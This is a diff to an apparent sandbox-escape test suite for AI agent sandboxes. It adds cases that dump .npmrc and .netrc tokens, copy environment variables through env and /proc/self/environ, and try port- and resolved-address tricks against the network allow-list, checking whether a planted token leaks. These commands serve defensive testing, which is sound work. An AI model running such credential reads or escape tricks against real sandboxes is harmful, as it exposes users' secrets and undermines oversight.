@@ -63,6 +63,7 @@ class Case:
     judge: Callable[[Ctx], bool]  # True when the attack succeeded (host-side evidence)
     settings: Callable[[Ctx, dict], None] | None = None
     setup: Callable[[Ctx], None] | None = None
+    env: dict[str, str] = field(default_factory=dict)  # the caller's ({TOKEN} filled in)
 
 
 def leaked(ctx: Ctx) -> bool:
@@ -137,6 +138,14 @@ def allow(*names: str) -> Callable[[Ctx, dict], None]:
     return mod
 
 
+def credential(kind: str, value: str, mode: str = "deny") -> Callable[[Ctx, dict], None]:
+    """srt's ``credentials``: a file (``value`` below the writable root) or a variable."""
+    def mod(ctx: Ctx, s: dict) -> None:
+        entry = ({"path": str(ctx.W / value)} if kind == "files" else {"name": value})
+        s.setdefault("credentials", {}).setdefault(kind, []).append({**entry, "mode": mode})
+    return mod
+
+
 def deny_read_glob(ctx: Ctx, s: dict) -> None:
     s["filesystem"]["denyRead"].append("**/.env")
 
@@ -199,6 +208,16 @@ CASES: list[Case] = [
          "mv {W}/a {W}/b; cat {W}/b/secret.txt > {W}/out; mv {W}/b/secret.txt {W}/s2; "
          "cat {W}/s2 >> {W}/out", leaked, setup=mk("work/a/secret.txt", "{TOKEN}\n"),
          settings=lambda c, s: s["filesystem"]["denyRead"].append(str(c.W / "a" / "secret.txt"))),
+    Case("credential-file", "denied read", "cat {W}/.npmrc > {W}/out; cp {W}/.npmrc {W}/out2; "
+         "cat {W}/out2 >> {W}/out", leaked, settings=credential("files", ".npmrc"),
+         setup=mk("work/.npmrc", "//registry.npmjs.org/:_authToken={TOKEN}\n")),
+    Case("credential-file-masked", "denied read", "cat {W}/.netrc > {W}/out", leaked,
+         settings=credential("files", ".netrc", "mask"),
+         setup=mk("work/.netrc", "machine up.example.com password {TOKEN}\n")),
+    Case("credential-env", "denied read", "env > {W}/out; cat /proc/self/environ >> {W}/out",
+         leaked, settings=credential("envVars", "AGENT_TOKEN"), env={"AGENT_TOKEN": "{TOKEN}"}),
+    Case("credential-env-masked", "denied read", "printenv API_KEY > {W}/out", leaked,
+         settings=credential("envVars", "API_KEY", "mask"), env={"API_KEY": "{TOKEN}"}),
     Case("read-find-grep", "denied read", "grep -rs {TOKEN} {S} /proc/self/root{S} /proc/1/root{S} | head > {W}/out",
          leaked),
     # -- protected writes --------------------------------------------------------
@@ -336,6 +355,15 @@ CASES: list[Case] = [
          + CURL + " -x socks5h://127.0.0.1:1080 http://$ip:8080/{M}; "
          + CURL + " http://$ip:8080/{M}",
          upstream_saw, settings=allow("up.example.com")),
+    Case("port-scoped-allow", "domain trick",
+         CURL + " -p http://up.example.com:2222/{M}; " + CURL + " http://up.example.com:2222/{M}; "
+         + CURL + " -x socks5h://127.0.0.1:1080 http://up.example.com:2222/{M}",
+         upstream_saw, settings=allow("up.example.com:8080")),
+    Case("denied-resolved-range", "domain trick", fill(PROXY_GET, host="up.example.com") + "; "
+         + CURL + " -p http://also.up.example.com:8080/{M}", upstream_saw,
+         settings=lambda c, s: s["network"].update(
+             allowedDomains=["up.example.com", "also.up.example.com"],
+             deniedResolvedAddresses=[c.net.up_ip + "/32"])),
     Case("domain-idna-homograph", "domain trick", fill(PROXY_GET, host="xn--p-0tbb.example.com"),
          upstream_saw, settings=allow("up.example.com")),
     Case("dns-rebinding-to-loopback", "domain trick",
@@ -416,6 +444,8 @@ def run_case(engine: str, case: Case, tmp: Path, net: Net, ls: HostListeners,
         script = script.replace("{" + k + "}", v)
     settings_file = tmp / "settings.json"
     settings_file.write_text(json.dumps(s))
+    for k, v in case.env.items():
+        monkeypatch.setenv(k, v.replace("{TOKEN}", ctx.token))
     if engine == "ours":
         monkeypatch.setenv("AGENT_SANDBOX_HOSTS", str(net.hosts_file))
         monkeypatch.setenv("AGENT_SANDBOX_AUDIT_DIR", str(tmp / "audit"))
